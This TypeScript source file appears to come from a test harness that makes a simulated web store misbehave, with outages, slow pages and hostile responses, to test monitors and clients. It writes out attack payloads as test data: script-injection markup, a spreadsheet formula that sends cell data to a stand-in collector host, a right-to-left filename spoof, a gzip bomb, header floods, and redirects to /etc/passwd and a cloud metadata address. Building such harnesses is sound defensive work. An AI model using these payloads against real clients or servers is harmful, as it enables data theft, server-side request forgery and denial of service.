/** Ways a store can behave that no single check is meant to find: outages for monitors, and hostility for the client. */
import type { ServerResponse } from "node:http";
import { gzipSync } from "node:zlib";
import { addresses } from "./addresses.ts";
import { canonicalHost, pathsOf } from "./store-spec.ts";
import type { StoreState } from "./store-state.ts";
import { addRecord, replaceRecord } from "./store-state.ts";
import type { Reply, WebRequest } from "./web-reply.ts";
import { html, redirect, textOf, withHeaders } from "./web-reply.ts";
import { record } from "./zones.ts";

export type Behaviour = { name: string; title: string; apply(state: StoreState): void };

/** Text that attacks whoever shows it: mark-up, a spreadsheet formula, characters that turn the reading direction. */
export const hostileText = {
  markup: `</title><script>window.__hostile=1</script><img src=x onerror="window.__hostile=1">`,
  formula: `=HYPERLINK("http://collector.example/?"&A1,"order")`,
  bidirectional: "safe\u202Egpj.exe\u2066\u200Bcheckout",
};

function onPages(state: StoreState, answer: (request: WebRequest) => Reply | null): void {
  state.before.push((request) =>
    request.scheme === "https" && request.host === canonicalHost(state.spec) ? answer(request) : null,
  );
}

/** A megabyte of zeros as one gzip member; members may follow each other (RFC 1952, section 2.2). */
const zeroMember = gzipSync(Buffer.alloc(1024 * 1024), { level: 9 });
const BOMB_MEMBERS = 2048;

function bomb(response: ServerResponse): void {
  response.setHeader("content-encoding", "gzip");
  pour(response, zeroMember, BOMB_MEMBERS);
}

/** Writes the same chunk again and again, as fast as the client reads, at most `times`. */
function pour(response: ServerResponse, chunk: Buffer, times = Number.POSITIVE_INFINITY): void {
  let left = times;
  const write = () => {
    while (left > 0 && !response.destroyed) {
      left -= 1;
      if (!response.write(chunk)) {
        response.once("drain", write);
        return;
      }
    }
    if (!response.destroyed) response.end();
  };
  write();
}

export const behaviours: Behaviour[] = [
  {
    // No fault of the list: where private addresses are allowed, as in this world, nothing may be called private.
    name: "apex-private-address",
    title: "The bare domain points into a private network",
    apply: (state) => replaceRecord(state, state.domain, { type: "A", value: "10.0.0.5" }),
  },
  {
    name: "checkout-down",
    title: "The checkout answers 503",
    apply: (state) =>
      onPages(state, ({ path }) =>
        path === pathsOf(state.spec).checkout ? html(503, "<!doctype html><title>Back soon</title>") : null,
      ),
  },
  {
    name: "checkout-slow",
    title: "The checkout takes 1.4 seconds",
    apply(state) {
      state.after.push((request, reply) =>
        request.path === pathsOf(state.spec).checkout && request.scheme === "https"
          ? { ...reply, delayMs: 1400 }
          : reply,
      );
    },
  },
  {
    name: "hostile-endless-body",
    title: "Pages never end",
    apply: (state) =>
      onPages(state, () => ({ ...html(200, ""), body: (response) => pour(response, Buffer.alloc(65_536, "a")) })),
  },
  {
    name: "hostile-gzip-bomb",
    title: "Pages unpack to two gigabytes",
    apply: (state) => onPages(state, () => ({ ...html(200, ""), body: bomb })),
  },
  {
    name: "hostile-header-flood",
    title: "Answers carry 512 KiB of headers",
    apply: (state) =>
      onPages(state, () => {
        const headers = Array.from({ length: 512 }, (_, n): [string, string] => [`x-flood-${n}`, "f".repeat(1000)]);
        return html(200, "<!doctype html><title>Flood</title>", headers);
      }),
  },
  {
    name: "hostile-hung",
    title: "Pages are never answered",
    apply: (state) => onPages(state, () => ({ ...html(200, ""), body: () => {} })),
  },
  {
    name: "hostile-redirect-file",
    title: "Pages redirect to a file on the visitor's machine",
    apply: (state) => onPages(state, () => redirect(302, "file:///etc/passwd")),
  },
  {
    name: "hostile-redirect-internal",
    title: "Pages redirect to a server on this machine",
    apply: (state) => onPages(state, () => redirect(302, `http://${addresses.canary}/latest/meta-data/`)),
  },
  {
    name: "hostile-redirect-metadata",
    title: "Pages redirect to a cloud's metadata address",
    apply: (state) => onPages(state, () => redirect(302, "http://169.254.169.254/latest/meta-data/")),
  },
  {
    name: "hostile-slow-body",
    title: "Pages arrive a byte a second",
    apply: (state) =>
      onPages(state, () => ({
        ...html(200, ""),
        body(response) {
          const timer = setInterval(() => response.write("."), 1000);
          response.on("close", () => clearInterval(timer));
        },
      })),
  },
  {
    name: "hostile-text",
    title: "Titles, headers and DNS texts attack whoever shows them",
    apply(state) {
      const { markup, formula, bidirectional } = hostileText;
      addRecord(state, state.domain, { type: "TXT", value: `${formula} ${bidirectional} ${markup}` });
      state.after.push((request, reply) => {
        const page = textOf(reply, "text/html");
        if (request.scheme !== "https" || page === null) return reply;
        const titled = page.replace(/<title>[^<]*/, `<title>${bidirectional} ${formula} ${markup}`);
        const powered: [string, string] = ["x-powered-by", `${formula} <script>alert(1)</script>`];
        return withHeaders({ ...reply, body: titled }, [powered]);
      });
    },
  },
  {
    // A fault that no place sees alone: the app is broken for those who ask the other region's resolver, and for no one else.
    name: "region-only-fault",
    title: "In one region the app's name leads to a dead server",
    apply(state) {
      state.regional.push(record(`app.${state.domain}`, { type: "A", value: addresses.deadHost }));
    },
  },
  {
    name: "shop-down",
    title: "Every page answers 502",
    apply: (state) => onPages(state, () => html(502, "<!doctype html><title>Bad gateway</title>")),
  },
];
